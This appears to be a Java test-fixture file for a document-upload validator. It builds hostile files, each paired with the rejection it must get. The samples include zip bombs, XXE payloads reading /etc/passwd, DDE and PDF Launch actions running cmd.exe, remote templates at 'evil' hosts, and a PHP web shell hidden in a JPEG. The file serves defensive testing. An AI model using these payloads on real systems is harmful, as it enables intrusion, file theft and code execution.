package nl.rekenschap.upload;

import static nl.rekenschap.upload.MadeFiles.bytes;
import static nl.rekenschap.upload.MadeFiles.chunk;
import static nl.rekenschap.upload.MadeFiles.document;
import static nl.rekenschap.upload.MadeFiles.docx;
import static nl.rekenschap.upload.MadeFiles.docxParts;
import static nl.rekenschap.upload.MadeFiles.image;
import static nl.rekenschap.upload.MadeFiles.join;
import static nl.rekenschap.upload.MadeFiles.odfParts;
import static nl.rekenschap.upload.MadeFiles.pdf;
import static nl.rekenschap.upload.MadeFiles.rels;
import static nl.rekenschap.upload.MadeFiles.types;
import static nl.rekenschap.upload.MadeFiles.with;
import static nl.rekenschap.upload.MadeFiles.word;
import static nl.rekenschap.upload.MadeFiles.xlsxParts;
import static nl.rekenschap.upload.MadeFiles.zip;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.Deflater;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/**
 * Files that mean harm, each with the refusal that it must get.
 *
 * <p>Long because it is one list, and each kind of file is made beside what makes it harmful.
 */
public final class HostileFiles {

  /** A file, its name and the key of its refusal. */
  public record Hostile(String about, String name, byte[] content, String key) {}

  private static final String ODT = "application/vnd.oasis.opendocument.text";
  private static final String ODS = "application/vnd.oasis.opendocument.spreadsheet";

  private final List<Hostile> all = new ArrayList<>();

  public static List<Hostile> all() throws IOException {
    HostileFiles files = new HostileFiles();
    files.names();
    files.kinds();
    files.archives();
    files.xml();
    files.office();
    files.open();
    files.pdfs();
    files.images();
    files.texts();
    return files.all;
  }

  private void add(String about, String name, byte[] content, String key) {
    all.add(new Hostile(about, name, content, key));
  }

  private void names() {
    add("no name", " ", pdf(), "upload.name.none");
    add("NUL in the name", "a\0.pdf", pdf(), "upload.name.signs");
    add("a line break in the name", "a\nb.pdf", pdf(), "upload.name.signs");
    add("a path that leads up", "../../etc/passwd.pdf", pdf(), "upload.name.signs");
    add("a path of Windows", "C:\\fakepath\\a.pdf", pdf(), "upload.name.signs");
    add("letters turned around", "factuur\u202efdp.exe.pdf", pdf(), "upload.name.signs");
    add("a sign that is not seen", "a\u200b.pdf", pdf(), "upload.name.signs");
    add("a name of 300 signs", "x".repeat(300) + ".pdf", pdf(), "upload.name.tooLong");
    add("two endings", "factuur.exe.pdf", pdf(), "upload.name.twice");
    add("a page in front of the ending", "factuur.html.txt", bytes("x"), "upload.name.twice");
    add("a program's ending", "factuur.pdf.exe", pdf(), "upload.type.notTaken");
    add("no ending", "factuur", pdf(), "upload.type.notTaken");
    add("a dot behind the ending", "factuur.pdf.", pdf(), "upload.type.notTaken");
    add("a document with macros", "verslag.docm", docx(), "upload.type.notTaken");
  }

  private void kinds() {
    add("empty", "a.pdf", new byte[0], "upload.empty");
    add("a program as PDF", "a.pdf", bytes("MZ\0\0program"), "upload.type.disagrees");
    add("a PDF as image", "a.png", pdf(), "upload.type.disagrees");
    add("an image as PDF", "a.pdf", image("png"), "upload.type.disagrees");
    add("a PNG as JPEG", "a.jpg", image("png"), "upload.type.disagrees");
    add("a text document as workbook", "a.xlsx", docx(), "upload.type.disagrees");
    add("a workbook as text document", "a.docx", zip(xlsxParts()), "upload.type.disagrees");
    add("an OpenDocument as Word", "a.docx", zip(odfParts(ODT, "")), "upload.type.disagrees");
    add("an OpenDocument text as sheet", "a.ods", zip(odfParts(ODT, "")), "upload.type.disagrees");
    add("any archive as Word", "a.docx", zip(Map.of("a.txt", bytes("x"))), "upload.type.disagrees");
    add(
        "Word of 1997",
        "a.docx",
        bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1...."),
        "upload.oldOffice");
    add(
        "a PDF that does not begin at its beginning",
        "a.pdf",
        join(bytes("\n"), pdf()),
        "upload.type.disagrees");
  }

  private void archives() throws IOException {
    byte[] zeros = new byte[40 << 20];
    add("a bomb", "a.docx", with(docxParts(), "word/media/a.bin", zeros), "upload.zip.tooMuch");
    add(
        "a bomb that lies about its size",
        "a.docx",
        lying(with(docxParts(), "word/media/a.bin", new byte[4 << 20])),
        "upload.zip.hostile");
    Map<String, byte[]> many = docxParts();
    for (int i = 0; i < 100_000; i++) {
      many.put("x/" + i, new byte[0]);
    }
    add("a hundred thousand parts", "a.docx", zip(many), "upload.zip.tooMuch");
    Map<String, byte[]> three = docxParts();
    for (int i = 0; i < 2_100; i++) {
      three.put("x/" + i, new byte[0]);
    }
    add("two thousand parts", "a.docx", zip(three), "upload.zip.tooMuch");
    add(
        "an archive in it",
        "a.docx",
        with(docxParts(), "word/media/a.png", docx()),
        "upload.zip.nested");
    add(
        "an archive in it by its name",
        "a.docx",
        with(docxParts(), "word/a.zip", bytes("x")),
        "upload.zip.nested");
    add(
        "a part that leads up",
        "a.docx",
        with(docxParts(), "../../evil.xml", bytes("<a/>")),
        "upload.zip.hostile");
    add(
        "a part from the root",
        "a.docx",
        with(docxParts(), "/etc/passwd", bytes("x")),
        "upload.zip.hostile");
    add(
        "a part with a turned slash",
        "a.docx",
        with(docxParts(), "word\\a.xml", bytes("<a/>")),
        "upload.zip.hostile");
    add(
        "the same part twice",
        "a.docx",
        with(docxParts(), "WORD/document.xml", bytes("<a/>")),
        "upload.zip.hostile");
    add("an encrypted part", "a.docx", flagged(docx()), "upload.encrypted");
    add("heads that differ", "a.docx", otherHead(docx()), "upload.zip.hostile");
    add("a document with a password", "a.docx", withPassword(), "upload.encrypted");
    add("cut off", "a.docx", Arrays.copyOf(docx(), docx().length / 2), "upload.damaged");
    add(
        "something in front",
        "a.docx",
        join(Arrays.copyOf(docx(), 4), bytes("#!/bin/sh"), docx()),
        "upload.polyglot");
    add(
        "something behind",
        "a.docx",
        join(docx(), bytes("<script>alert(1)</script>")),
        "upload.polyglot");
    add("packed bytes that are none", "a.docx", spoilt(docx()), "upload.damaged");
  }

  private void xml() {
    String laughs =
        "<!DOCTYPE lolz [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c"
            + " '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'>]>";
    add(
        "an outside entity",
        "a.docx",
        with(
            docxParts(),
            "word/document.xml",
            bytes("<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><d>&x;</d>")),
        "upload.doctype");
    add(
        "a billion laughs",
        "a.docx",
        with(docxParts(), "word/document.xml", bytes(laughs + "<d>&c;</d>")),
        "upload.doctype");
    add(
        "an entity in a sheet",
        "a.xlsx",
        with(
            xlsxParts(),
            "xl/sharedStrings.xml",
            bytes("<!DOCTYPE d SYSTEM 'http://evil/x.dtd'><d/>")),
        "upload.doctype");
    add(
        "an entity in a text",
        "a.odt",
        zip(swap(odfParts(ODT, ""), "content.xml", bytes(laughs + "<d>&c;</d>"))),
        "upload.doctype");
    add(
        "a type hidden in UTF-16",
        "a.docx",
        with(
            docxParts(),
            "word/x.xml",
            "\ufeff<?xml version='1.0' encoding='UTF-16'?><!DOCTYPE d><d/>"
                .getBytes(StandardCharsets.UTF_16LE)),
        "upload.doctype");
    add(
        "XML under another name",
        "a.docx",
        with(docxParts(), "word/theme.dat", bytes("<!DOCTYPE d><d/>")),
        "upload.doctype");
    add(
        "a tag without end",
        "a.docx",
        with(docxParts(), "word/x.xml", bytes("<a " + noise(600_000))),
        "upload.zip.hostile");
    add(
        "ten thousand deep",
        "a.docx",
        with(docxParts(), "word/x.xml", bytes("<a>".repeat(10_000))),
        "upload.zip.hostile");
    add(
        "as many names as words",
        "a.docx",
        with(docxParts(), "word/x.xml", names(60_000)),
        "upload.zip.hostile");
    add(
        "broken XML",
        "a.docx",
        with(docxParts(), "word/document.xml", bytes("<a><b></a>")),
        "upload.damaged");
  }

  private void office() {
    add(
        "macros renamed",
        "a.docx",
        with(docxParts(), "word/vbaProject.bin", bytes("x")),
        "upload.macros");
    add(
        "the type of a document with macros",
        "a.docx",
        zip(
            swap(
                docxParts(),
                "[Content_Types].xml",
                types(
                    "application/vnd.ms-word.document.macroEnabled.main+xml",
                    "/word/document.xml"))),
        "upload.macros");
    add(
        "macros elsewhere",
        "a.docx",
        with(docxParts(), "word/_rels/document.xml.rels", rels("vbaProject", "hidden.dat", "")),
        "upload.macros");
    add(
        "a macro sheet",
        "a.xlsx",
        with(xlsxParts(), "xl/macrosheets/sheet1.xml", bytes("<a/>")),
        "upload.macros");
    add(
        "a name that runs",
        "a.xlsx",
        zip(
            swap(
                xlsxParts(),
                "xl/workbook.xml",
                bytes("<w><definedName name='_xlnm.Auto_Open'>x</definedName></w>"))),
        "upload.macros");
    add(
        "an object of another program",
        "a.docx",
        with(docxParts(), "word/embeddings/oleObject1.bin", bytes("x")),
        "upload.embedded");
    add(
        "an old document in it",
        "a.docx",
        with(
            docxParts(),
            "word/media/a.emf",
            bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1....")),
        "upload.embedded");
    add(
        "a program in it",
        "a.docx",
        with(docxParts(), "word/media/a.png", bytes("MZ\0\0....")),
        "upload.embedded");
    add(
        "ActiveX",
        "a.docx",
        with(docxParts(), "word/activeX/activeX1.xml", bytes("<a/>")),
        "upload.embedded");
    add(
        "a template from elsewhere",
        "a.docx",
        with(
            docxParts(),
            "word/_rels/settings.xml.rels",
            rels("attachedTemplate", "https://evil/t.dotm", "TargetMode='External'")),
        "upload.template");
    add(
        "a picture from elsewhere",
        "a.docx",
        with(
            docxParts(),
            "word/_rels/document.xml.rels",
            rels("image", "http://evil/a.png", "TargetMode='External'")),
        "upload.externalLinks");
    add(
        "a link to a file",
        "a.docx",
        with(
            docxParts(),
            "word/_rels/document.xml.rels",
            rels("hyperlink", "file:///c:/a", "TargetMode='External'")),
        "upload.externalLinks");
    add(
        "another workbook",
        "a.xlsx",
        with(xlsxParts(), "xl/externalLinks/externalLink1.xml", bytes("<a/>")),
        "upload.externalLinks");
    add(
        "DDE in a field",
        "a.docx",
        with(
            docxParts(),
            "word/document.xml",
            document(
                "<w:fldChar w:fldCharType='begin'/><w:instrText>DDE</w:instrText><w:instrText>AUTO"
                    + " c:\\\\cmd.exe</w:instrText>")),
        "upload.externalLinks");
    add(
        "DDE in a formula",
        "a.xlsx",
        with(
            xlsxParts(),
            "xl/worksheets/sheet1.xml",
            bytes("<s><c><f>cmd|' /C calc'!A0</f></c></s>")),
        "upload.externalLinks");
    add(
        "a formula that fetches",
        "a.xlsx",
        with(
            xlsxParts(),
            "xl/worksheets/sheet1.xml",
            bytes("<s><c><f>WEBSERVICE(\"http://evil\")</f></c></s>")),
        "upload.externalLinks");
  }

  private void open() {
    add(
        "Basic in an OpenDocument",
        "a.odt",
        zip(swap(odfParts(ODT, ""), "Basic/Standard/Module1.xml", bytes("<a/>"))),
        "upload.macros");
    add("a listener", "a.ods", zip(odfParts(ODS, "<o:event-listener/>")), "upload.macros");
    add(
        "a macro behind a link",
        "a.odt",
        zip(odfParts(ODT, "<t:a xlink:href='vnd.sun.star.script:x'/>")),
        "upload.macros");
    add(
        "a linked part of a text",
        "a.odt",
        zip(odfParts(ODT, "<t:section-source xlink:href='file:///etc/passwd'/>")),
        "upload.externalLinks");
    add(
        "an OpenDocument picture from elsewhere",
        "a.odt",
        zip(odfParts(ODT, "<t:image xlink:href='http://evil/a.png'/>")),
        "upload.externalLinks");
    add(
        "DDE in an OpenDocument",
        "a.ods",
        zip(odfParts(ODS, "<o:dde-source/>")),
        "upload.externalLinks");
    add(
        "an object in an OpenDocument",
        "a.odt",
        zip(odfParts(ODT, "<t:object-ole/>")),
        "upload.embedded");
    add(
        "an encrypted OpenDocument",
        "a.odt",
        zip(swap(odfParts(ODT, ""), "META-INF/manifest.xml", bytes("<m><encryption-data/></m>"))),
        "upload.encrypted");
  }

  private void pdfs() throws IOException {
    add(
        "a script at opening",
        "a.pdf",
        pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>", "[]"),
        "upload.pdf.script");
    add(
        "a script by another writing",
        "a.pdf",
        pdf("/OpenAction<</S/J#61vaScript/J#53(x)>>", "[]"),
        "upload.pdf.script");
    add("a short script", "a.pdf", pdf("", "[<</Subtype/Link/A<</JS(x)>>>>]"), "upload.pdf.script");
    add(
        "a program to start",
        "a.pdf",
        pdf("/OpenAction<</S/Launch/F(cmd.exe)>>", "[]"),
        "upload.pdf.action");
    add(
        "a page at opening",
        "a.pdf",
        pdf("/OpenAction<</S/URI/URI(http://evil)>>", "[]"),
        "upload.pdf.action");
    add(
        "a form that sends itself",
        "a.pdf",
        pdf("", "[<</Subtype/Widget/A<</S/SubmitForm/F(http://evil)>>>>]"),
        "upload.pdf.action");
    add("an action of a page", "a.pdf", pdf("/AA<</WC<</S/GoTo>>>>", "[]"), "upload.pdf.action");
    add(
        "another document by a link",
        "a.pdf",
        pdf("", "[<</Subtype/Link/A<</S/GoToR/F(\\\\\\\\evil\\\\a)>>>>]"),
        "upload.pdf.action");
    add(
        "a link that runs",
        "a.pdf",
        pdf("", "[<</Subtype/Link/A<</S/URI/URI(javascript:x)>>>>]"),
        "upload.pdf.action");
    add(
        "a file in it",
        "a.pdf",
        pdf("/Names<</EmbeddedFiles<</Names[]>>>>", "[]"),
        "upload.pdf.embedded");
    add(
        "a file pinned on it",
        "a.pdf",
        pdf("", "[<</Subtype/FileAttachment/FS<</EF<<>>>>>>]"),
        "upload.pdf.embedded");
    add("a film", "a.pdf", pdf("", "[<</Subtype/Movie>>]"), "upload.pdf.media");
    add("rich media", "a.pdf", pdf("", "[<</Subtype/RichMedia>>]"), "upload.pdf.media");
    add("a form of XFA", "a.pdf", pdf("/AcroForm<</XFA[]>>", "[]"), "upload.pdf.form");
    add("a password", "a.pdf", locked("secret"), "upload.encrypted");
    add("an owner's password", "a.pdf", locked(""), "upload.encrypted");
    add(
        "a script in packed objects",
        "a.pdf",
        packed("<</S/JavaScript/JS(x)>>"),
        "upload.pdf.script");
    add("packed objects that explode", "a.pdf", packed(" ".repeat(20 << 20)), "upload.zip.tooMuch");
    add(
        "packed twice",
        "a.pdf",
        pdf(
            "",
            "[]",
            "<</Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]/Length 1>>stream\n"
                + "x\n"
                + "endstream"),
        "upload.pdf.unreadable");
    add("endless brackets", "a.pdf", pdf("", "[".repeat(100_000)), "upload.pdf.unreadable");
    add(
        "a million strings",
        "a.pdf",
        pdf("", "[" + "()".repeat(2_000_000) + "]"),
        "upload.pdf.unreadable");
    add("no objects", "a.pdf", bytes("%PDF-1.7\nnothing\n%%EOF"), "upload.pdf.unreadable");
    add("half a PDF", "a.pdf", Arrays.copyOf(pdf(), pdf().length - 40), "upload.cutOff");
    add("no PDF at all", "a.pdf", bytes("%PDF-x"), "upload.damaged");
    add(
        "a page behind a PDF",
        "a.pdf",
        join(pdf(), bytes("<html><script>x</script>")),
        "upload.polyglot");
    add("an archive behind a PDF", "a.pdf", join(pdf(), docx()), "upload.polyglot");
  }

  private void images() {
    byte[] png = image("png");
    byte[] jpg = image("jpg");
    add("an archive behind a PNG", "a.png", join(png, docx()), "upload.polyglot");
    add("an archive behind a JPEG", "a.jpg", join(jpg, docx()), "upload.polyglot");
    add("a page behind a PNG", "a.png", join(png, bytes("<script>")), "upload.polyglot");
    add("a page behind a JPEG", "a.jpg", join(jpg, bytes("<script>")), "upload.polyglot");
    add(
        "a script in a note of a PNG",
        "a.png",
        join(
            Arrays.copyOf(png, 33),
            chunk("tEXt", bytes("a\0<SCRIPT>x</script>")),
            Arrays.copyOfRange(png, 33, png.length)),
        "upload.polyglot");
    byte[] note = bytes("<?php system($_GET[0]);");
    add(
        "a script in a note of a JPEG",
        "a.jpg",
        join(
            Arrays.copyOf(jpg, 2),
            bytes("\u00ff\u00fe\0" + (char) (note.length + 2)),
            note,
            Arrays.copyOfRange(jpg, 2, jpg.length)),
        "upload.polyglot");
    byte[] head = join(word(50_000), word(50_000), new byte[] {8, 2, 0, 0, 0});
    add(
        "a million million dots",
        "a.png",
        join(Arrays.copyOf(png, 8), chunk("IHDR", head), chunk("IEND", new byte[0])),
        "upload.image.tooLarge");
    byte[] wide = jpg.clone();
    int frame = indexOf(wide, new byte[] {(byte) 0xff, (byte) 0xc0});
    Arrays.fill(wide, frame + 5, frame + 9, (byte) 0xff);
    add("a JPEG as large as a field", "a.jpg", wide, "upload.image.tooLarge");
    add("half a PNG", "a.png", Arrays.copyOf(png, png.length - 9), "upload.cutOff");
    add("half a JPEG", "a.jpg", Arrays.copyOf(jpg, jpg.length - 30), "upload.cutOff");
    add(
        "a GIF and a program of Java",
        "a.jpg",
        join(bytes("GIF89a"), docx()),
        "upload.type.disagrees");
    byte[] spoilt = png.clone();
    spoilt[40] ^= 1;
    add("a changed PNG", "a.png", spoilt, "upload.damaged");
  }

  private void texts() {
    add("a page as text", "a.txt", bytes(" \n<!DOCTYPE html><p>x"), "upload.text.markup");
    add("a script as list", "a.csv", bytes("<script>alert(1)</script>"), "upload.text.markup");
    add(
        "a script further on",
        "a.txt",
        bytes("hello <script>alert(1)</script>"),
        "upload.text.markup");
    add("NUL in a text", "a.txt", bytes("a\0b"), "upload.text.encoding");
    add("signs of no text", "a.csv", bytes("a;b\n\u0081\u0090"), "upload.text.encoding");
    add("a shell's script", "a.txt", bytes("#!/bin/sh\nrm"), "upload.type.disagrees");
    add("a document of RTF", "a.txt", bytes("{\\rtf1 x}"), "upload.type.disagrees");
    add("an archive as text", "a.csv", docx(), "upload.type.disagrees");
    add("an archive behind a text", "a.txt", join(bytes("hello\n"), docx()), "upload.polyglot");
  }

  private static Map<String, byte[]> swap(Map<String, byte[]> parts, String name, byte[] content) {
    parts.put(name, content);
    return parts;
  }

  private static String noise(int length) {
    java.util.Random random = new java.util.Random(7);
    StringBuilder text = new StringBuilder();
    while (text.length() < length) {
      text.append((char) ('a' + random.nextInt(26)));
    }
    return text.toString();
  }

  private static byte[] names(int count) {
    StringBuilder text = new StringBuilder("<a>");
    for (int i = 0; i < count; i++) {
      text.append("<n").append(i * 31 % 99_991).append("/>");
    }
    return bytes(text.append("</a>").toString());
  }

  private static int indexOf(byte[] in, byte[] sought) {
    for (int i = 0; i + sought.length <= in.length; i++) {
      if (Arrays.equals(in, i, i + sought.length, sought, 0, sought.length)) {
        return i;
      }
    }
    throw new IllegalArgumentException("not there");
  }

  private static int last(byte[] in, byte[] sought) {
    for (int i = in.length - sought.length; i >= 0; i--) {
      if (Arrays.equals(in, i, i + sought.length, sought, 0, sought.length)) {
        return i;
      }
    }
    throw new IllegalArgumentException("not there");
  }

  private static final byte[] CENTRAL = {'P', 'K', 1, 2};

  /** The directory says that the last part unpacks to almost nothing. */
  private static byte[] lying(byte[] zip) {
    byte[] changed = zip.clone();
    int at = last(changed, CENTRAL);
    changed[at + 24] = 10;
    changed[at + 25] = 0;
    changed[at + 26] = 0;
    changed[at + 27] = 0;
    return changed;
  }

  private static byte[] flagged(byte[] zip) {
    byte[] changed = zip.clone();
    changed[6] |= 1;
    changed[indexOf(changed, CENTRAL) + 8] |= 1;
    return changed;
  }

  private static byte[] otherHead(byte[] zip) {
    byte[] changed = zip.clone();
    changed[31] = 'X';
    return changed;
  }

  private static byte[] spoilt(byte[] zip) {
    byte[] changed = zip.clone();
    Arrays.fill(
        changed,
        30 + "[Content_Types].xml".length() + 2,
        30 + "[Content_Types].xml".length() + 12,
        (byte) 0xff);
    return changed;
  }

  private static byte[] withPassword() throws IOException {
    try (POIFSFileSystem files = new POIFSFileSystem()) {
      var encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
      encryptor.confirmPassword("secret");
      try (var out = encryptor.getDataStream(files)) {
        out.write(docx());
      }
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      files.writeFilesystem(bytes);
      return bytes.toByteArray();
    } catch (java.security.GeneralSecurityException e) {
      throw new IOException(e);
    }
  }

  private static byte[] locked(String password) throws IOException {
    try (PDDocument document = Loader.loadPDF(pdf())) {
      document.protect(new StandardProtectionPolicy("owner", password, new AccessPermission()));
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      document.save(out);
      return out.toByteArray();
    }
  }

  private static byte[] packed(String object) {
    byte[] plain = bytes("9 0 " + object);
    Deflater deflater = new Deflater();
    deflater.setInput(plain);
    deflater.finish();
    byte[] out = new byte[plain.length + 100];
    int size = deflater.deflate(out);
    deflater.end();
    return pdf(
        "",
        "[]",
        "<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
            + size
            + ">>stream\n"
            + new String(out, 0, size, StandardCharsets.ISO_8859_1)
            + "\nendstream");
  }
}
